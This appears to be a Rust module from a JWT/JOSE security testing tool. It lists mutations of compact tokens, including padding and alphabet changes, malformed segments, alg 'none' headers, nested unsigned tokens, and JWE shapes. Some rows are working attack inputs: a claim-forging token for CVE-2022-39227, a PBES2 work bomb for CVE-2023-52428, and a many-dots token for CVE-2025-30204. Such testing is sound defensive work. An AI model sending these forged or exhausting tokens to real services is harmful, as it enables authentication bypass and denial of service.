//! The compact form: padding, foreign alphabets, white space, too few or too many segments, and other serialisations.

use super::{Aim, Mutation};
use crate::forge::parts::{NotApplicable, Parts};
use crate::forge::recipe::SignWith;
use crate::wire::jose::{base64url, unbase64url};
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE};
use serde_json::{Value, json};

const fn row(name: &'static str, doc: &'static str, apply: super::Apply) -> Mutation {
    Mutation::after(Aim::Compact, name, doc, apply)
}

/// Longer than servers let a field be, and within what the readers here take.
const TOO_LONG: usize = 32 * 1024;

pub(super) const ROWS: &[Mutation] = &[
    row(
        "padding",
        "every segment with its padding (RFC 7515 section 2: there is none)",
        |p| recoded(p, &[0, 1, 2], &URL_SAFE),
    )
    .disputed(),
    row(
        "padding-signature",
        "the signature with its padding (RFC 7515 section 2)",
        |p| recoded(p, &[2], &URL_SAFE),
    )
    .disputed(),
    row(
        "padding-superfluous",
        "padding of the wrong length behind the signature",
        |p| edit(p, 2, |s| format!("{s}====")),
    )
    .disputed(),
    row(
        "standard-alphabet",
        "the signature in the alphabet with + and / (RFC 7515 section 2)",
        |p| recoded(p, &[2], &STANDARD_NO_PAD),
    )
    .disputed(),
    row(
        "whitespace-inside",
        "a blank in the middle of the payload",
        |p| insert(p, 1, " "),
    ),
    row(
        "newline",
        "a line feed in the middle of the signature",
        |p| insert(p, 2, "\n"),
    )
    .disputed(),
    row(
        "crlf",
        "CR and LF in the middle of the payload, as MIME breaks lines",
        |p| insert(p, 1, "\r\n"),
    )
    .disputed(),
    row("tab-inside", "a tab in the middle of the signature", |p| {
        insert(p, 2, "\t")
    })
    .disputed(),
    row(
        "illegal-character",
        "a character outside of the alphabet in the signature",
        |p| insert(p, 2, "!"),
    )
    .disputed(),
    row("illegal-quotes", "the token in quotes", |p| {
        whole(p, |t| format!("\"{t}\""))
    })
    .disputed(),
    row("illegal-braces", "the token in braces", |p| {
        whole(p, |t| format!("{{{t}}}"))
    }),
    row("percent-encoded-dot", "the dots percent-encoded", |p| {
        whole(p, |t| t.replace('.', "%2E"))
    }),
    row(
        "trailing-data",
        "a blank and more text behind the token",
        |p| whole(p, |t| format!("{t} more")),
    ),
    row(
        "trailing-comma",
        "a comma and more text behind the token",
        |p| whole(p, |t| format!("{t},more")),
    ),
    row(
        "trailing-dot",
        "a dot behind the token: an empty fourth segment",
        |p| whole(p, |t| format!("{t}.")),
    ),
    row(
        "leading-dot",
        "a dot before the token: an empty first segment",
        |p| whole(p, |t| format!(".{t}")),
    ),
    row("extra-segment", "a fourth segment", |p| {
        whole(p, |t| format!("{t}.e30"))
    }),
    row("empty-segments", "nothing but dots", |p| {
        whole(p, |_| "..".to_owned())
    }),
    row("one-segment", "the header alone", |p| {
        p.segments.truncate(1);
        Ok(())
    }),
    row("missing-header", "an empty first segment", |p| {
        edit(p, 0, |_| String::new())
    }),
    row(
        "missing-payload",
        "an empty second segment under the old signature",
        |p| edit(p, 1, |_| String::new()),
    ),
    row(
        "swapped-segments",
        "payload and header in each other's place",
        |p| {
            p.segments.swap(0, 1);
            Ok(())
        },
    ),
    row(
        "last-character-of-payload",
        "only the unused bits of the payload's last character differ; what is signed is the text",
        |p| {
            let spare = p.segments.get(1).is_some_and(|s| s.len() % 4 > 1);
            if !spare {
                return Err(NotApplicable("the payload leaves no bits unused"));
            }
            edit(p, 1, other_last_character)
        },
    ),
    row(
        "json-serialisation-flattened",
        "the flattened JSON serialisation (RFC 7519 section 1: a JWT is compact)",
        |p| {
            let [header, payload, signature] = three(p)?;
            as_text(
                p,
                json!({"protected": header, "payload": payload, "signature": signature}),
            )
        },
    ),
    row(
        "json-serialisation-general",
        "the general JSON serialisation (RFC 7519 section 1: a JWT is compact)",
        |p| {
            let [header, payload, signature] = three(p)?;
            as_text(
                p,
                json!({"payload": payload, "signatures": [{"protected": header, "signature": signature}]}),
            )
        },
    ),
    row(
        "json-serialisation-unprotected",
        "the JSON serialisation with `alg` none in the unprotected header",
        |p| {
            let [header, payload, _] = three(p)?;
            as_text(
                p,
                json!({"protected": header, "header": {"alg": "none"}, "payload": payload, "signature": ""}),
            )
        },
    ),
    row(
        "json-serialisation-unprotected-b64",
        "the JSON serialisation of a plain payload, with `b64` false outside of the signature (RFC 7797 section 3)",
        |p| {
            let SignWith::Key(key) = p.sign_with.clone() else {
                return Err(NotApplicable("the key that signs is not at hand"));
            };
            let [header, _, _] = three(p)?;
            let payload = String::from_utf8_lossy(&p.payload()).into_owned();
            let alg = p.alg().unwrap_or(key.alg());
            let signature = key.sign(alg.name(), format!("{header}.{payload}").as_bytes());
            let signature = signature.map_err(|_| NotApplicable("the key can't sign that"))?;
            as_text(
                p,
                json!({"protected": header, "header": {"b64": false}, "payload": payload, "signature": base64url(&signature)}),
            )
        },
    )
    .signed(),
    row(
        "json-and-compact",
        "a JSON serialisation that splits as a compact token too, forged (CVE-2022-39227)",
        |p| {
            let [header, payload, signature] = three(p)?;
            let forged = base64url(forged_claims(p).to_string().as_bytes());
            let name = format!("  {header}.{forged}.");
            as_text(
                p,
                json!({name: "", "protected": header, "payload": payload, "signature": signature}),
            )
        },
    ),
    row(
        "nested-jwt",
        "the token inside another one by `cty` JWT, the outer unsigned (RFC 7519 section 5.2)",
        |p| {
            let inner = p.segments.join(".");
            let outer = base64url(br#"{"alg":"none","cty":"JWT"}"#);
            whole(p, |_| format!("{outer}.{}.", base64url(inner.as_bytes())))
        },
    ),
    row(
        "jwe-shaped",
        "five segments: an encrypted token with nothing in it (RFC 7516 section 3.1)",
        |p| {
            let header = base64url(br#"{"alg":"dir","enc":"A128GCM"}"#);
            let (iv, text, tag) = (
                base64url(&[0; 12]),
                base64url(&[0; 16]),
                base64url(&[0; 16]),
            );
            whole(p, |_| format!("{header}..{iv}.{text}.{tag}"))
        },
    ),
    row(
        "jwe-nested-plain",
        "five segments whose ciphertext is an unsigned token in the clear",
        |p| {
            let header = base64url(br#"{"alg":"RSA-OAEP-256","enc":"A256GCM","cty":"JWT"}"#);
            let claims = base64url(p.payload().as_slice());
            let inner = format!("{}.{claims}.", base64url(br#"{"alg":"none"}"#));
            let (key, iv, tag) = (
                base64url(&[0; 256]),
                base64url(&[0; 12]),
                base64url(&[0; 16]),
            );
            whole(p, |_| {
                format!("{header}.{key}.{iv}.{}.{tag}", base64url(inner.as_bytes()))
            })
        },
    ),
    row(
        "jwe-password-work",
        "five segments that ask for five million rounds of PBKDF2, a second of work and more (CVE-2023-52428)",
        |p| by_password(p, 5_000_000),
    ),
    row(
        "jwe-password",
        "the same with a thousand rounds, next to no work (RFC 7518 section 4.8.1.2)",
        |p| by_password(p, 1_000),
    ),
    row("token-too-long", "32 KiB of signature", |p| {
        edit(p, 2, |s| format!("{s}{}", "A".repeat(TOO_LONG)))
    }),
    row("many-dots", "a thousand dots (CVE-2025-30204)", |p| {
        whole(p, |t| format!("{t}{}", ".".repeat(1000)))
    }),
    row(
        "signature-of-other-case",
        "the signature in other letter case",
        |p| edit(p, 2, |s| s.to_ascii_lowercase()),
    ),
];

/// An encrypted token whose key follows from a password that nobody here knows.
fn by_password(parts: &mut Parts, rounds: u32) -> Result<(), NotApplicable> {
    let header =
        json!({"alg": "PBES2-HS256+A128KW", "enc": "A256GCM", "p2c": rounds, "p2s": "AAAAAAAAAAA"});
    let header = base64url(header.to_string().as_bytes());
    let (key, iv, text) = (
        base64url(&[0; 40]),
        base64url(&[0; 12]),
        base64url(&[0; 16]),
    );
    whole(parts, |_| format!("{header}.{key}.{iv}.{text}.{text}"))
}

fn edit(
    parts: &mut Parts,
    segment: usize,
    change: impl Fn(&str) -> String,
) -> Result<(), NotApplicable> {
    let text = parts.segments.get_mut(segment);
    let text = text.ok_or(NotApplicable("the token lacks the segment"))?;
    let new = change(text);
    if new == *text {
        return Err(NotApplicable("the segment can't be changed that way"));
    }
    *text = new;
    Ok(())
}

fn insert(parts: &mut Parts, segment: usize, what: &str) -> Result<(), NotApplicable> {
    edit(parts, segment, |text| {
        let mut text = text.to_owned();
        text.insert_str(text.len() / 2, what);
        text
    })
}

fn whole(parts: &mut Parts, change: impl Fn(&str) -> String) -> Result<(), NotApplicable> {
    let text = parts
        .text
        .take()
        .unwrap_or_else(|| parts.segments.join("."));
    parts.text = Some(change(&text));
    Ok(())
}

fn as_text(parts: &mut Parts, value: Value) -> Result<(), NotApplicable> {
    parts.text = Some(value.to_string());
    Ok(())
}

/// Writes segments another way; if that changes none of them, the row proves nothing.
fn recoded(
    parts: &mut Parts,
    segments: &[usize],
    how: &impl base64::Engine,
) -> Result<(), NotApplicable> {
    let before = parts.segments.clone();
    for segment in segments {
        if let Some(text) = parts.segments.get_mut(*segment) {
            let octets = unbase64url(text).ok_or(NotApplicable("the segment is no base64url"))?;
            *text = how.encode(octets);
        }
    }
    if parts.segments == before {
        return Err(NotApplicable("the segments look the same that way"));
    }
    Ok(())
}

fn three(parts: &Parts) -> Result<[String; 3], NotApplicable> {
    let segments = parts.segments.clone();
    segments
        .try_into()
        .map_err(|_| NotApplicable("the token has no three segments"))
}

fn forged_claims(parts: &Parts) -> Value {
    let mut claims = parts.claims.clone();
    claims.insert("sub".into(), json!("stranger"));
    Value::Object(claims)
}

/// Another last character that decodes to the same octets.
pub(super) fn other_last_character(text: &str) -> String {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut other = text.to_owned();
    let place = other.pop().and_then(|last| ALPHABET.find(last));
    let twin = place.and_then(|place| ALPHABET.chars().nth(place ^ 1));
    other.extend(twin);
    other
}
